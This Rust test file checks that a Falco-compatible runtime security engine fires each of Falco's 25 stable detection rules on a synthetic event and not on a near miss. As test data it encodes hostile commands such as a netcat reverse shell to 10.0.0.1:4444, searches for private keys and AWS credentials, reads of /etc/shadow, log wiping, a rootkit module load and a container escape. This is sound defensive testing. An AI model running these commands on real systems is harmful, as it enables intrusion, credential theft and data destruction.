//! Falco's default rules file (../shared/conformance/falco/falco_rules.yaml), loaded
//! unmodified: every one of its 25 stable rules fires on a synthetic event that does what it
//! looks for, and not on a near miss; each positive fires exactly that one rule.

mod support;

use bulkhead_runtime::event::{
    Event, EventType, Fd, FdKind, O_APPEND, O_CREAT, O_RDONLY, O_TRUNC, O_WRONLY,
};
use bulkhead_runtime::{Capabilities, Engine, RulesSource};
use support::*;

fn engine() -> Option<Engine> {
    let (path, text) = falco_rules()?;
    let (mut e, report) = Engine::load(
        &[RulesSource {
            path: &path,
            text: &text,
        }],
        &Capabilities::all(),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(report.active.len(), 25, "{report:#?}");
    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
    assert!(
        report.unknown_output_fields.is_empty(),
        "{:?}",
        report.unknown_output_fields
    );
    e.set_hostname("node-1");
    Some(e)
}

fn fired(e: &Engine, ev: &Event) -> Vec<String> {
    let mut out = Vec::new();
    e.for_each_match(ev, |r| out.push(r.name.to_string()));
    out
}

/// (rule, positive event, near-miss event)
fn cases() -> Vec<(&'static str, Event, Event)> {
    let cat =
        |parents: &[&str]| P::new("cat", "/usr/bin/cat", &["cat", "/etc/shadow"]).parents(parents);
    let mut v = Vec::new();

    // 1
    let mut pos = open(
        P::new("php-fpm", "/usr/sbin/php-fpm", &["php-fpm"])
            .parents(&["php-fpm", "init"])
            .build(),
        "/etc/passwd",
        O_RDONLY,
    );
    pos.fd.as_mut().unwrap().nameraw = "/var/www/html/../../../etc/passwd".into();
    let mut neg = open(
        P::new("php-fpm", "/usr/sbin/php-fpm", &["php-fpm"])
            .parents(&["php-fpm", "init"])
            .build(),
        "/etc/passwd",
        O_RDONLY,
    );
    neg.fd.as_mut().unwrap().nameraw = "/var/www/html/../etc/passwd".into();
    v.push(("Directory traversal monitored file read", pos, neg));

    // 2: nginx (a server process) reads /etc/shadow long after it started; near miss: just
    // started. (It is also an untrusted read: nginx is not in the trusted binaries.)
    let pos = open(
        P::new("nginx", "/usr/sbin/nginx", &["nginx"])
            .parents(&["systemd"])
            .started_ago_ns(60_000_000_000)
            .build(),
        "/etc/shadow",
        O_RDONLY,
    );
    let neg = open(
        P::new("nginx", "/usr/sbin/nginx", &["nginx"])
            .parents(&["systemd"])
            .started_ago_ns(1_000_000_000)
            .build(),
        "/etc/shadow",
        O_RDONLY,
    );
    v.push(("Read sensitive file trusted after startup", pos, neg));

    // 3
    let pos = open(cat(&["bash", "sshd"]).build(), "/etc/shadow", O_RDONLY);
    let neg = open(
        P::new("sshd", "/usr/sbin/sshd", &["sshd"])
            .parents(&["systemd"])
            .build(),
        "/etc/shadow",
        O_RDONLY,
    );
    v.push(("Read sensitive file untrusted", pos, neg));

    // 4: a shell below nginx; near miss: a known shell command line of nginx's list.
    let pos = exec(
        P::new("sh", "/bin/sh", &["sh", "-c", "id"])
            .parents(&["nginx", "systemd"])
            .build(),
    );
    let neg = exec(
        P::new("sh", "/bin/sh", &["sh", "-c", "uname -p 2> /dev/null"])
            .parents(&["nginx", "systemd"])
            .build(),
    );
    v.push(("Run shell untrusted", pos, neg));

    // 5
    let pos = exec(
        P::new("ls", "/bin/ls", &["ls"])
            .user(33, "www-data")
            .parents(&["bash", "sshd"])
            .build(),
    );
    let neg = exec(
        P::new("ls", "/bin/ls", &["ls"])
            .user(1000, "alice")
            .parents(&["bash", "sshd"])
            .build(),
    );
    v.push(("System user interactive", pos, neg));

    // 6
    let pos = exec(
        P::new("bash", "/bin/bash", &["bash"])
            .container()
            .tty(34816)
            .parents(&["runc:[1:CHILD]"])
            .build(),
    );
    let neg = exec(
        P::new("bash", "/bin/bash", &["bash"])
            .container()
            .tty(0)
            .parents(&["runc:[1:CHILD]"])
            .build(),
    );
    v.push(("Terminal shell in container", pos, neg));

    // 7
    let api = |name: &str| {
        let mut e = ev(
            EventType::Connect,
            P::new(
                "curl",
                "/usr/bin/curl",
                &["curl", "https://kubernetes.default"],
            )
            .container()
            .parents(&["sh"])
            .build(),
        );
        let mut fd = Fd::socket(3, "tcp", ip("10.1.0.5"), 40000, ip("10.96.0.1"), 443);
        fd.sip_name = Some(name.into());
        e.fd = Some(fd);
        e
    };
    v.push((
        "Contact K8S API Server From Container",
        api("kubernetes.default.svc.cluster.local"),
        api("example.com"),
    ));

    // 8
    let pos = exec(
        P::new(
            "nc",
            "/bin/nc",
            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        )
        .container()
        .parents(&["sh"])
        .build(),
    );
    let neg = exec(
        P::new(
            "nc",
            "/bin/nc",
            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        )
        .parents(&["sh"])
        .build(),
    );
    v.push(("Netcat Remote Code Execution in Container", pos, neg));

    // 9
    let pos = exec(
        P::new(
            "grep",
            "/bin/grep",
            &["grep", "-r", "BEGIN RSA PRIVATE", "/"],
        )
        .parents(&["bash"])
        .build(),
    );
    let neg = exec(
        P::new(
            "grep",
            "/bin/grep",
            &["grep", "-r", "BEGIN CERTIFICATE", "/"],
        )
        .parents(&["bash"])
        .build(),
    );
    v.push(("Search Private Keys or Passwords", pos, neg));

    // 10
    let pos = open(
        P::new("sh", "/bin/sh", &["sh"]).parents(&["bash"]).build(),
        "/var/log/syslog",
        O_WRONLY | O_TRUNC,
    );
    let neg = open(
        P::new("sh", "/bin/sh", &["sh"]).parents(&["bash"]).build(),
        "/var/log/syslog",
        O_WRONLY | O_APPEND,
    );
    v.push(("Clear Log Activities", pos, neg));

    // 11
    let pos = exec(
        P::new("shred", "/usr/bin/shred", &["shred", "-u", "/data/db"])
            .parents(&["bash"])
            .build(),
    );
    let neg = exec(
        P::new("rm", "/usr/bin/rm", &["rm", "-rf", "/data/db"])
            .parents(&["bash"])
            .build(),
    );
    v.push(("Remove Bulk Data from Disk", pos, neg));

    // 12
    let sl = |target: &str| {
        ev(
            EventType::Symlinkat,
            P::new("ln", "/bin/ln", &["ln", "-s", target, "/tmp/x"])
                .parents(&["bash"])
                .build(),
        )
        .with_arg("target", target)
        .with_arg("linkpath", "/tmp/x")
    };
    v.push((
        "Create Symlink Over Sensitive Files",
        sl("/etc/shadow"),
        sl("/etc/hostname"),
    ));

    // 13
    let hl = |old: &str| {
        ev(
            EventType::Linkat,
            P::new("ln", "/bin/ln", &["ln", old, "/tmp/x"])
                .parents(&["bash"])
                .build(),
        )
        .with_arg("oldpath", old)
        .with_arg("newpath", "/tmp/x")
    };
    v.push((
        "Create Hardlink Over Sensitive Files",
        hl("/etc/shadow"),
        hl("/etc/hostname"),
    ));

    // 14
    let sock = |domain: &str| {
        ev(
            EventType::Socket,
            P::new("tcpdump", "/usr/bin/tcpdump", &["tcpdump"])
                .container()
                .parents(&["sh"])
                .build(),
        )
        .with_arg("domain", domain)
    };
    v.push((
        "Packet socket created in container",
        sock("AF_PACKET"),
        sock("AF_INET"),
    ));

    // 15
    let dup = |res: i64| {
        let mut e = ev(
            EventType::Dup2,
            P::new("bash", "/bin/bash", &["bash", "-i"])
                .container()
                .parents(&["sh"])
                .build(),
        );
        e.res = res;
        e.fd = Some(Fd::socket(
            3,
            "tcp",
            ip("10.1.0.5"),
            40000,
            ip("203.0.113.9"),
            4444,
        ));
        e
    };
    v.push((
        "Redirect STDOUT/STDIN to Network Connection in Container",
        dup(1),
        dup(5),
    ));

    // 16
    let km = |caps: u64| {
        ev(
            EventType::FinitModule,
            P::new("insmod", "/sbin/insmod", &["insmod", "rootkit.ko"])
                .container()
                .caps(caps)
                .parents(&["sh"])
                .build(),
        )
    };
    v.push((
        "Linux Kernel Module Injection Detected",
        km(1 << 16),
        km(1 << 21),
    ));

    // 17
    let pos = exec(
        P::new("debugfs", "/sbin/debugfs", &["debugfs", "/dev/sda1"])
            .container()
            .privileged()
            .parents(&["sh"])
            .build(),
    );
    let neg = exec(
        P::new("debugfs", "/sbin/debugfs", &["debugfs", "/dev/sda1"])
            .container()
            .parents(&["sh"])
            .build(),
    );
    v.push(("Debugfs Launched in Privileged Container", pos, neg));

    // 18
    let ra = |caps: u64| {
        open(
            P::new("sh", "/bin/sh", &["sh"])
                .container()
                .caps(caps)
                .parents(&["sh"])
                .build(),
            "/tmp/cg/release_agent",
            O_WRONLY,
        )
    };
    v.push((
        "Detect release_agent File Container Escapes",
        ra((1 << 21) | 1 << 1),
        ra(1 << 1),
    ));

    // 19, 20
    let pt = |req: &str| {
        ev(
            EventType::Ptrace,
            P::new("gdb", "/usr/bin/gdb", &["gdb", "-p", "1"])
                .parents(&["bash"])
                .build(),
        )
        .with_arg("request", req)
    };
    v.push((
        "PTRACE attached to process",
        pt("PTRACE_ATTACH"),
        pt("PTRACE_PEEKUSR"),
    ));
    v.push((
        "PTRACE anti-debug attempt",
        pt("PTRACE_TRACEME"),
        pt("PTRACE_CONT"),
    ));

    // 21
    let pos = exec(
        P::new(
            "find",
            "/usr/bin/find",
            &["find", "/", "-path", "*/.aws/credentials"],
        )
        .parents(&["bash"])
        .build(),
    );
    let neg = exec(
        P::new(
            "find",
            "/usr/bin/find",
            &["find", "/", "-path", "*/.aws/config"],
        )
        .parents(&["bash"])
        .build(),
    );
    v.push(("Find AWS Credentials", pos, neg));

    // 22
    let pos = exec(
        P::new("x", "/dev/shm/x", &["/dev/shm/x"])
            .parents(&["bash"])
            .build(),
    );
    let neg = exec(
        P::new("x", "/tmp/x", &["/tmp/x"])
            .parents(&["bash"])
            .build(),
    );
    v.push(("Execution from /dev/shm", pos, neg));

    // 23
    let pos = exec(
        P::new("dropped", "/tmp/dropped", &["/tmp/dropped"])
            .container()
            .upper_layer()
            .parents(&["sh"])
            .build(),
    );
    let neg = exec(
        P::new("dropped", "/tmp/dropped", &["/tmp/dropped"])
            .container()
            .parents(&["sh"])
            .build(),
    );
    v.push(("Drop and execute new binary in container", pos, neg));

    // 24
    let ssh = |port: u16| {
        let mut e = ev(
            EventType::Connect,
            P::new(
                "ssh",
                "/usr/bin/ssh",
                &["ssh", "-p", "4444", "me@203.0.113.9"],
            )
            .parents(&["bash"])
            .build(),
        );
        e.fd = Some(Fd::socket(
            3,
            "tcp",
            ip("192.168.1.10"),
            50000,
            ip("203.0.113.9"),
            port,
        ));
        e
    };
    v.push((
        "Disallowed SSH Connection Non Standard Port",
        ssh(4444),
        ssh(22),
    ));

    // 25
    let pos = exec(
        P::new("3", "memfd:payload", &["/proc/self/fd/3"])
            .memfd()
            .parents(&["python3"])
            .build(),
    );
    let neg = exec(
        P::new(
            "runc",
            "memfd:runc_cloned:/proc/self/exe",
            &["runc", "init"],
        )
        .memfd()
        .parents(&["containerd-shim"])
        .build(),
    );
    v.push(("Fileless execution via memfd_create", pos, neg));
    v
}

#[test]
fn every_stable_rule_fires_on_its_positive_and_not_on_its_near_miss() {
    let Some(e) = engine() else { return };
    let cases = cases();
    let names: std::collections::BTreeSet<&str> = cases.iter().map(|c| c.0).collect();
    assert_eq!(names.len(), 25, "one case per stable rule");
    let active: std::collections::BTreeSet<&str> = e.rules().iter().map(|r| &*r.name).collect();
    assert_eq!(names, active);
    for (rule, pos, neg) in &cases {
        let got = fired(&e, pos);
        let expected: Vec<String> = match *rule {
            // nginx reading /etc/shadow is also an untrusted read (nginx is not trusted).
            "Read sensitive file trusted after startup" => {
                vec![
                    rule.to_string(),
                    "Read sensitive file untrusted".to_string(),
                ]
            }
            _ => vec![rule.to_string()],
        };
        assert_eq!(got, expected, "positive of `{rule}`");
        let got = fired(&e, neg);
        assert!(
            !got.iter().any(|g| g == rule),
            "near miss of `{rule}` fired: {got:?}"
        );
    }
}

#[test]
fn alert_json_is_falcos_format() {
    let Some(e) = engine() else { return };
    let ev = exec(
        P::new(
            "nc",
            "/bin/nc",
            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        )
        .container()
        .parents(&["sh", "runc:[2:INIT]"])
        .build(),
    );
    let mut alerts = Vec::new();
    e.process(&ev, &mut alerts);
    assert_eq!(alerts.len(), 1);
    insta::assert_snapshot!("netcat_json", alerts[0].to_json());
    insta::assert_snapshot!("netcat_text", alerts[0].to_text());
}

#[test]
fn events_only_visit_rules_of_their_type() {
    let Some(e) = engine() else { return };
    // A `procexit` event: no stable rule looks at it.
    let ev = ev(EventType::Procexit, P::new("x", "/x", &["x"]).build());
    assert!(fired(&e, &ev).is_empty());
    let open_rules: Vec<&str> = e
        .rules()
        .iter()
        .filter(|r| r.types & (1 << EventType::Openat.index()) != 0)
        .map(|r| &*r.name)
        .collect();
    assert_eq!(
        open_rules,
        [
            "Directory traversal monitored file read",
            "Read sensitive file trusted after startup",
            "Read sensitive file untrusted",
            "Clear Log Activities",
            "Detect release_agent File Container Escapes"
        ]
    );
    let _ = FdKind::File;
    let _ = O_CREAT;
}

/// `fd.sip.name` as Falco gives it: the rules' host names are resolved (here set by hand, as
/// the sensor's background refresh would) and a connection to one of their addresses has that
/// name even when no hosts file names the address; another address does not.
#[test]
fn the_rules_host_names_name_the_addresses_they_resolve_to() {
    let Some(e) = engine() else { return };
    assert_eq!(
        e.resolver().names(),
        ["kubernetes.default.svc.cluster.local"]
    );
    let connect = |server: &str| {
        let mut ev = ev(
            EventType::Connect,
            P::new("curl", "/usr/bin/curl", &["curl", "https://10.96.0.1"])
                .container()
                .parents(&["sh"])
                .build(),
        );
        ev.fd = Some(Fd::socket(3, "tcp", ip("10.1.0.5"), 40000, ip(server), 443));
        ev
    };
    assert!(
        fired(&e, &connect("10.96.0.1")).is_empty(),
        "not resolved yet"
    );
    e.resolver().set(&[(
        "kubernetes.default.svc.cluster.local".into(),
        vec![ip("10.96.0.1")],
    )]);
    assert_eq!(
        fired(&e, &connect("10.96.0.1")),
        ["Contact K8S API Server From Container"]
    );
    assert!(fired(&e, &connect("10.96.0.2")).is_empty());
}
